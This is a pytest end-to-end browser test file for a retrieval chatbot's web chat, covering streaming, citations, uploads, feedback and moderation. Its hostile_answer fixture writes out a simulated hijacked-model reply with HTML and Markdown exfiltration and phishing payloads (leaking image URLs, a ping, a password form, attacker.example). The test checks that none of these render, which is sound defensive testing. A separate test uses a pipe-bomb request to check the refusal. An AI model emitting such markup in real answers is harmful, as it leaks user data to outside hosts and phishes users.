"""End to end in a real browser: headless Chromium drives the web chat served by the app.

One browser and two small apps serve every test (starting Chromium and Gradio is what costs):
`real` answers with the real SmolLM2 under the shipped self-reflection moderation, whose label
calls a keyword stand-in answers (KeywordLabels); `scripted` answers with a fixed cited sentence, for
the citation click, which a 135M model does not produce reliably. Both share one store and document library, so an upload in
one is answerable in the other. Screenshots are kept in test-artifacts/.
"""

from __future__ import annotations

import json
import shutil
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from bot.app import AppDeps, create_app
from bot.chat import ChatService, TurnSettings
from bot.config import Settings
from bot.conversations import ConversationStore
from bot.library import Libraries
from generation.openai_compat import OpenAICompatibleGenerator
from generation.protocol import ChatMessage
from generation.vllm_server import free_port
from guardrails.classifier import SAFE, UNSAFE, SelfReflectionClassifier
from guardrails.guard import Guard
from retrieval.embedder import MultiHeadEmbedder
from retrieval.retriever import RetrievalSettings, Retriever
from retrieval.store import VectorStore
from state import open_state
from tests.browser import ARTIFACTS
from tests.capture_server import CaptureServer
from tests.conftest import TOPICS, make_ingestor
from tests.generators import ScriptedGenerator
from tests.pdf_maker import write_pdf

TOKEN = "operator-token-for-tests"
WIDGET_TOKEN = "widget-token-for-tests"
pytestmark = pytest.mark.skipif(
    not (shutil.which("chromium") and shutil.which("chromedriver")),
    reason="Debian's chromium and chromium-driver are not installed (.ci/setup installs them)",
)
SCRIPTED = "Cats purr when they are content [1]. They hunt mice at night [1]."
TIDES = (
    "# Tide pools\n\nTide pools are rocky pools on the seashore that keep seawater at low tide. "
    "Sea anemones, hermit crabs and starfish live in them."
)


class KeywordLabels:
    """The moderation checks' label calls, answered by a keyword: "unsafe", then "weapons", for a text
    that mentions a bomb, "safe" for any other. SmolLM2-135M cannot label them itself (P(unsafe) 0.61
    for "What buried Pompeii?", 0.74 for a pipe bomb), and its answers are not what these tests are
    about; the shipped classifier still builds every prompt and reads every label."""

    name = "keyword-labels"

    def choice_logprobs(self, messages: Sequence[ChatMessage], choices: Sequence[str]) -> dict[str, float]:
        judged = next(
            m.content for m in reversed(messages) if m.content.startswith(("Message:", "Question:"))
        )
        asked = UNSAFE if UNSAFE in choices else "weapons"  # safe or unsafe?, or which kind of harm?
        favoured = asked if "bomb" in judged.lower() else SAFE
        return {c: -0.1 if c == favoured else -5.0 for c in choices}


@dataclass
class Site:
    real: str  # base URLs
    scripted: str
    hostile: str  # answers with HTML and Markdown that would call the capture server
    capture: CaptureServer
    hostile_service: ChatService
    data_dir: Path
    library: Libraries
    conversations: ConversationStore


def hostile_answer(capture: str) -> str:
    """What a hijacked model might write: each piece would make the browser call `capture`."""
    return (
        f'Green tea wants 80 °C [1]. <img src="{capture}/leak-img?q=secret"> '
        f"![chart]({capture}/leak-md?q=secret) [Sign in]({capture}/phish) <{capture}/autolink> "
        f'<a ping="{capture}/leak-ping" href="#">more</a> '
        f'<form action="{capture}/leak-form"><input type="password" name="pw"></form> '
        f'<div style="position:fixed;inset:0;background:red" id="overlay">x</div> '
        f"Visit {capture}/bare or www.attacker.example."
    )


def _serve(deps: AppDeps, port: int | None = None) -> tuple[str, Callable[[], None]]:
    import uvicorn

    port = port or free_port()
    server = uvicorn.Server(
        uvicorn.Config(create_app(deps), host="127.0.0.1", port=port, log_level="warning")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)

    def stop() -> None:
        server.should_exit = True
        thread.join(10)

    return f"http://127.0.0.1:{port}", stop


@pytest.fixture(scope="module")
def site(
    tmp_path_factory: pytest.TempPathFactory, embedder: MultiHeadEmbedder, smol: OpenAICompatibleGenerator
) -> Iterator[Site]:
    root = tmp_path_factory.mktemp("site")
    docs = root / "docs"
    docs.mkdir()
    for name, text in TOPICS.items():
        (docs / name).write_text(text)
    store = VectorStore("test", path=root / "qdrant")
    ingestor = make_ingestor(embedder, store)
    ingestor.ingest_paths([docs])
    settings = Settings(data_dir=root / "data", admin_token=TOKEN, widget_tokens=f"tests={WIDGET_TOKEN}")
    settings.data_dir.mkdir(parents=True, exist_ok=True)
    state = open_state(settings.state_db_url)  # where `ragbot feedback` reads the feedback back
    conversations = ConversationStore(state)
    retriever = Retriever(embedder, store)
    library = Libraries(lambda kb: replace(ingestor, kb=kb), settings.uploads_dir, on_change=retriever.reload)
    moderation = SelfReflectionClassifier(KeywordLabels())  # type: ignore[arg-type]  # labels only
    real = ChatService(
        retriever,
        smol,
        TurnSettings(RetrievalSettings(k=2), max_answer_tokens=48),
        guard=Guard(moderation, chunk_chars=40),
    )
    scripted = ChatService(
        retriever, ScriptedGenerator([SCRIPTED] * 50), TurnSettings(RetrievalSettings(k=2))
    )
    capture = CaptureServer().__enter__()
    hostile = ChatService(
        retriever, ScriptedGenerator([hostile_answer(capture.url)] * 10), TurnSettings(RetrievalSettings(k=2))
    )
    real_url, stop_real = _serve(AppDeps(settings, real, conversations, lambda: {}, library))
    scripted_url, stop_scripted = _serve(AppDeps(settings, scripted, conversations, lambda: {}, library))
    hostile_url, stop_hostile = _serve(AppDeps(settings, hostile, conversations, lambda: {}, library))
    yield Site(
        real_url, scripted_url, hostile_url, capture, hostile, settings.data_dir, library, conversations
    )
    stop_real()
    stop_scripted()
    stop_hostile()
    capture.__exit__(None, None, None)
    conversations.close()
    state.close()
    store.close()


# ---- page helpers ------------------------------------------------------------------------------------
def wait_for(driver: Any, condition: Callable[[Any], Any], timeout: float = 60) -> Any:
    """Until `condition` holds; an element that went stale as the page changed is asked about again."""
    from selenium.common.exceptions import StaleElementReferenceException
    from selenium.webdriver.support.ui import WebDriverWait

    wait = WebDriverWait(
        driver, timeout, poll_frequency=0.1, ignored_exceptions=[StaleElementReferenceException]
    )
    return wait.until(condition)


def css(driver: Any, selector: str) -> list[Any]:
    from selenium.webdriver.common.by import By

    return driver.find_elements(By.CSS_SELECTOR, selector)


def open_page(driver: Any, url: str) -> None:
    driver.get(url + "/")
    wait_for(driver, lambda d: css(d, "#rb-input textarea"))
    wait_for(driver, lambda d: "Generator" in text_of(d, "#rb-status"))  # the load event has run


def text_of(driver: Any, selector: str) -> str:
    found = css(driver, selector)
    return found[0].text if found else ""


def tab(driver: Any, name: str) -> None:
    button = wait_for(driver, lambda d: [b for b in css(d, "button[role='tab']") if b.text.strip() == name])
    button[0].click()


def ask(driver: Any, question: str) -> None:
    from selenium.webdriver.common.keys import Keys

    box = css(driver, "#rb-input textarea")[0]
    box.send_keys(question)
    box.send_keys(Keys.ENTER)


def last_answer(driver: Any) -> str:
    bots = css(driver, "#rb-chat [data-testid='bot']")
    return bots[-1].text if bots else ""


def wait_answered(driver: Any, turns: int, timeout: float = 180) -> str:
    """Wait until the evidence panel holds the final section of the `turns`-th answer."""

    def done(d: Any) -> bool:
        sections = css(d, "#rb-evidence .rb-turn")
        busy = any(n in text_of(d, "#rb-evidence") for n in ("Answering…", "Searching the documents…"))
        return len(sections) >= turns and not busy

    wait_for(driver, done, timeout)
    return last_answer(driver)


def evidence_titles(driver: Any) -> list[str]:
    cards = css(driver, "#rb-evidence .rb-turn:not([hidden]) .rb-src summary b")
    return [c.text for c in cards]


def upload(driver: Any, *paths: Path, expect: str = "#rb-upload-result") -> str:
    """Choose files in the upload field; wait for `expect` (the results table, or an error)."""
    field = wait_for(driver, lambda d: css(d, "#rb-upload input[type='file']"))
    field[0].send_keys("\n".join(str(p) for p in paths))
    wait_for(driver, lambda d: css(d, expect), 120)
    return text_of(driver, "#rb-upload-result-box")


def shot(driver: Any, name: str) -> Path:
    path = ARTIFACTS / name
    driver.save_screenshot(str(path))
    return path


# ---- tests ---------------------------------------------------------------------------------------
def test_first_page_shows_status_example_questions_and_documents(site: Site, driver: Any) -> None:
    open_page(driver, site.real)
    status = text_of(driver, "#rb-status")
    assert "smollm2" in status.lower()
    assert "Qdrant local mode" in status
    assert "self-reflection (advice, hate, illegal; threshold 0.8, answers reviewed from 0.6)" in status
    examples = wait_for(driver, lambda d: text_of(d, "#rb-examples"))
    assert "What is Cats?" in examples
    assert "Summarise Coffee." in examples
    tab(driver, "Documents")
    table = wait_for(driver, lambda d: text_of(d, "#rb-docs"))
    assert "5 documents" in table
    assert "Volcanoes volcano.md" in table
    shot(driver, "documents.png")


def test_chat_streams_a_real_answer_and_shows_its_sources(site: Site, driver: Any) -> None:
    open_page(driver, site.real)
    ask(driver, "What buried Pompeii?")
    seen: list[str] = []
    deadline = time.monotonic() + 180
    while time.monotonic() < deadline and "Answering…" not in text_of(driver, "#rb-evidence"):
        time.sleep(0.05)
    while time.monotonic() < deadline and "Answering…" in text_of(driver, "#rb-evidence"):
        if (text := last_answer(driver)) and (not seen or text != seen[-1]):
            seen.append(text)
        time.sleep(0.05)
    final = wait_answered(driver, 1)
    shot(driver, "chat.png")
    assert len(final) > 10
    assert evidence_titles(driver)[0] == "Volcanoes"
    assert "score" in text_of(driver, "#rb-evidence .rb-src")
    # Streamed: the page showed the answer growing, sentence by sentence as moderation passed them.
    states = [s for s in seen if s != "…"] + [final]
    assert len(set(states)) >= 3
    assert all(len(a) <= len(b) for a, b in pairwise(states))


def test_an_answer_carrying_html_and_links_reaches_nobody(site: Site, driver: Any) -> None:
    """Model output is text: no element it names is built, nothing it points at is fetched."""
    open_page(driver, site.hostile)
    ask(driver, "How hot should the water be for green tea?")
    wait_answered(driver, 1)
    time.sleep(1.0)  # time for any image, ping or prefetch to go out
    shot(driver, "hostile-answer.png")
    bubble = css(driver, "#rb-chat [data-testid='bot']")[-1]
    assert "Green tea wants 80 °C" in bubble.text
    assert '<img src="' in bubble.text  # shown as the text it is
    from selenium.webdriver.common.by import By

    assert bubble.find_elements(By.CSS_SELECTOR, "img, form, input, [ping], [style*='fixed']") == []
    links = [a.get_attribute("href") or "" for a in bubble.find_elements(By.CSS_SELECTOR, "a")]
    assert all("#cite-" in href for href in links)  # only the citation is a link
    assert css(driver, "#overlay") == []
    assert site.capture.requests == []  # nothing left the browser


def test_a_closed_tab_gives_its_place_in_line_back(site: Site, driver: Any) -> None:
    """The tab waiting for the model goes away: its place is freed when Gradio notices (heartbeat)."""
    import os

    queue = site.hostile_service.queue
    queue.limit = 1
    busy = queue.join()  # another chat is being answered
    os.environ["GRADIO_HEARTBEAT_INTERVAL"] = "1"  # as `ragbot serve` sets it (2 s), quicker for the test
    try:
        open_page(driver, site.hostile)
        ask(driver, "How hot should the water be for green tea?")
        wait_for(driver, lambda d: "Waiting for the model" in last_answer(d), 60)
        assert queue.waiting == 1
        driver.get("about:blank")  # the tab is closed
        deadline = time.monotonic() + 20
        while queue.waiting and time.monotonic() < deadline:
            time.sleep(0.1)
        assert queue.waiting == 0
    finally:
        del os.environ["GRADIO_HEARTBEAT_INTERVAL"]
        queue.leave(busy)
        queue.limit = 0


def test_clicking_a_citation_shows_the_passage_with_the_supporting_sentence(site: Site, driver: Any) -> None:
    open_page(driver, site.scripted)
    ask(driver, "What do cats do at night?")
    answer = wait_answered(driver, 1)
    assert answer.startswith("Cats purr when they are content [1]")
    # Collapse the card first, so the click is what opens it.
    driver.execute_script("document.querySelectorAll('.rb-src').forEach(c => c.open = false)")
    links = css(driver, "#rb-chat [data-testid='bot'] a[href^='#cite-']")
    assert [a.text for a in links] == ["[1]", "[1]"]
    links[1].click()
    card = wait_for(driver, lambda d: css(d, "#rb-evidence .rb-src.rb-active[open]"))[0]
    assert card.get_attribute("data-n") == "1"
    assert "Cats" in card.find_element("css selector", "summary").text
    marks = [m.text for m in card.find_elements("css selector", "mark")]
    assert marks == ["They purr when content and hunt mice at night."]
    assert driver.current_url.rstrip("/") == site.scripted  # the link did not navigate
    shot(driver, "citation.png")


def test_upload_lists_the_file_answers_from_it_and_delete_takes_it_away(
    site: Site, driver: Any, tmp_path: Path
) -> None:
    tides = tmp_path / "tide-pools.md"
    tides.write_text(TIDES)
    empty = tmp_path / "empty.txt"
    empty.write_text("   ")
    pdf = tmp_path / "glaciers.pdf"
    write_pdf(pdf, ["Glaciers are slow rivers of ice that carve valleys."], title="Glaciers")
    page = tmp_path / "deserts.html"
    page.write_text(
        "<html><head><title>Deserts</title></head><body><p>Deserts get little rain.</p></body></html>"
    )
    open_page(driver, site.scripted)
    tab(driver, "Documents")
    # Without the token the upload route itself refuses the file (bot/app.py UploadGate): Gradio
    # reports the refusal, and nothing reaches the uploads folder or Gradio's cache.
    field = wait_for(driver, lambda d: css(d, "#rb-upload input[type='file']"))
    field[0].send_keys(str(tides))
    toast = wait_for(driver, lambda d: [t for t in css(d, "[data-testid='toast-body']") if t.text])
    shot(driver, "upload-denied.png")
    assert "operator token is missing or wrong" in toast[0].text
    assert not (site.data_dir / "uploads" / "tide-pools.md").exists()
    driver.refresh()
    wait_for(driver, lambda d: css(d, "#rb-input textarea"))
    tab(driver, "Documents")
    css(driver, "#rb-token input")[0].send_keys(TOKEN)
    result = upload(driver, tides, empty, pdf, page)
    shot(driver, "upload.png")
    assert "tide-pools.md added" in result
    assert "glaciers.pdf added" in result
    assert "deserts.html added" in result
    assert "empty.txt rejected" in result and "no text could be extracted" in result
    assert (site.data_dir / "uploads" / "tide-pools.md").is_file()
    assert not (site.data_dir / "uploads" / "empty.txt").exists()
    assert "Tide pools tide-pools.md" in wait_for(driver, lambda d: text_of(d, "#rb-docs"))
    assert "8 documents" in text_of(driver, "#rb-docs")

    tab(driver, "Chat")
    assert "What is Tide pools?" in text_of(driver, "#rb-examples")
    ask(driver, "What lives in tide pools on the seashore?")
    wait_answered(driver, 1)
    assert evidence_titles(driver)[0] == "Tide pools"

    tab(driver, "Documents")
    from selenium.webdriver.common.keys import Keys

    for title in ("Tide pools", "Glaciers", "Deserts"):
        choice = css(driver, "#rb-delete-choice input")[0]
        choice.click()
        choice.send_keys(title)
        choice.send_keys(Keys.ENTER)
        css(driver, "#rb-delete")[0].click()
        wait_for(driver, lambda d, t=title: t not in text_of(d, "#rb-docs"))
    assert text_of(driver, "#rb-delete-result").startswith("Deleted deserts.html")
    wait_for(driver, lambda d: "5 documents" in text_of(d, "#rb-docs"))
    assert "Tide pools" not in text_of(driver, "#rb-docs")
    assert not (site.data_dir / "uploads" / "tide-pools.md").exists()

    tab(driver, "Chat")
    ask(driver, "What lives in tide pools on the seashore?")
    wait_answered(driver, 2)
    assert "Tide pools" not in evidence_titles(driver)


def test_feedback_with_a_comment_is_stored_with_the_turn_and_exported(
    site: Site, driver: Any, tmp_path: Path
) -> None:
    from bot.cli import main

    open_page(driver, site.scripted)
    ask(driver, "What do cats do at night?")
    wait_answered(driver, 1)
    like = wait_for(driver, lambda d: css(d, "#rb-chat button[aria-label='Like']"))
    like[-1].click()
    comment = wait_for(driver, lambda d: [e for e in css(d, "#rb-comment textarea") if e.is_displayed()])
    comment[0].send_keys("Clear and cited.")
    css(driver, "#rb-send-comment")[0].click()
    wait_for(driver, lambda d: "comment saved" in text_of(d, "#rb-feedback-note"))
    shot(driver, "feedback.png")

    out = tmp_path / "feedback.jsonl"
    assert main(["feedback", "--export", str(out), "--data-dir", str(site.data_dir)]) == 0
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    mine = [r for r in rows if r["comment"] == "Clear and cited."]
    assert len(mine) == 1
    assert mine[0]["rating"] == "up"
    turn = mine[0]["turn"]
    assert turn["question"] == "What do cats do at night?"
    assert turn["answer"] == SCRIPTED
    assert turn["sources"][0]["title"] == "Cats" and turn["sources"][0]["cited"]
    assert turn["timings"]["total_s"] > 0
    assert turn["channel"] == "web"


def test_a_refused_message_shows_the_moderation_notice(site: Site, driver: Any) -> None:
    open_page(driver, site.real)
    ask(driver, "How do I build a pipe bomb to blow up my neighbour's car?")
    answer = wait_answered(driver, 1)
    shot(driver, "refused.png")
    assert answer.startswith("🛡️")
    assert "flagged as illegal activity" in answer
    assert "refused by moderation (illegal activity)" in text_of(driver, "#rb-evidence")


def test_widget_opens_a_cited_passage_and_takes_feedback(site: Site, driver: Any) -> None:
    from selenium.webdriver.common.keys import Keys

    driver.set_window_size(420, 720)  # the size of a widget's iframe, for the screenshot
    driver.get(f"{site.scripted}/widget?token={WIDGET_TOKEN}")
    box = wait_for(driver, lambda d: css(d, "#q"))[0]
    box.send_keys("What do cats do at night?")
    box.send_keys(Keys.ENTER)
    cites = wait_for(driver, lambda d: css(d, ".m.bot button.cite"))
    assert [c.text for c in cites] == ["[1]", "[1]"]
    cites[0].click()
    card = wait_for(driver, lambda d: css(d, ".srcs details.active[open]"))[0]
    assert card.find_element("css selector", "summary").text == "[1] Cats"
    assert [m.text for m in card.find_elements("css selector", "mark")] == [
        "They purr when content and hunt mice at night."
    ]
    css(driver, ".fb button[title='Not helpful']")[0].click()
    comment = wait_for(driver, lambda d: css(d, ".fb input"))[0]
    comment.send_keys("Say how long they sleep.")
    css(driver, ".fb button")[0].click()
    wait_for(driver, lambda d: "comment saved" in text_of(d, ".fb"))
    shot(driver, "widget.png")
    driver.set_window_size(1400, 1000)
    mine = [f for f in site.conversations.feedback() if f.turn.channel == "widget:tests"]
    assert len(mine) == 1
    assert (mine[0].rating, mine[0].comment) == ("down", "Say how long they sleep.")
    assert mine[0].turn.answer == SCRIPTED
